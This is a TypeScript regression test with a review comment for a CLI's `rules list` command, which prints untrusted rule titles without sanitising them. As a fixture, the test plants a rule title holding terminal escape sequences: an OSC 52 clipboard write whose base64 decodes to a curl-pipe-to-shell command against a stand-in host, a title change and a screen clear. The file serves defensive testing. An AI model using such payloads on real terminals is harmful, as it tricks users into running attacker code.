// Review (stop 20), fixed (oneLine/plain in src/cli/rules.ts): `clipguard rules list` prints each rule's title as the rule file has it (src/cli/rules.ts
// rulesList: `${r.title}` into the line, no plain()/oneLine()). A checkout's clipguard.config.json may name a rule
// pack inside it (rules.packs is honoured untrusted: its rules report), and a rule's title is any JSON string
// (schema: a string of length >= 1). So `npx clipguard rules list` in a cloned repository writes the pack's escape
// sequences to the user's terminal: an OSC 52 clipboard write (the next paste runs the attacker's command), the
// window title, a screen clear that hides the rest. `explain` and the reports clean the same text; this one does
// not. README Guarantees: "terminal output carries no escape sequences from others' text".
//
// Suggested fix: oneLine(r.title, 200) in rulesList's text lines (and plain() on `rules test`'s file and error
// lines, which also print paths from the pack).
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cli, tempDir } from '../helpers/cli.js';

const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('rules list in a checkout whose config names its own rule pack (review)', () => {
  it("prints none of the pack's control characters (OSC 52, window title, screen clear)", () => {
    const repo = tempDir('clipguard-review-rules-list-');
    execFileSync('git', ['init', '-q'], { cwd: repo });
    mkdirSync(join(repo, 'policy'));
    const esc = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;owned\u0007\u001b[2J';
    writeFileSync(
      join(repo, 'policy', 'tidy.json'),
      JSON.stringify({ id: 'team/tidy', title: `Issues stay tidy${esc}`, severity: 'info', subject: 'issue', description: 'd', remediation: 'r', tags: ['team'], message: 'm', conditions: { all: [{ fact: 'issue', path: '$.title', operator: 'equal', value: 'never' }] } }),
    );
    writeFileSync(join(repo, 'clipguard.config.json'), JSON.stringify({ rules: { packs: ['./policy'] } }));
    const r = cli(['rules', 'list'], { cwd: repo });
    expect(r.code).toBe(0);
    const line = r.stdout.split('\n').find((l) => l.startsWith('team/tidy'));
    expect(line).toBeDefined();
    // Fails here: the line holds ESC ] 52 ; c ; ... BEL (a clipboard write), ESC ] 0 ; (title) and ESC [ 2 J.
    expect(JSON.stringify(line)).not.toMatch(/\\u001b/);
    expect(r.stdout).not.toMatch(CONTROLS);
  });
});
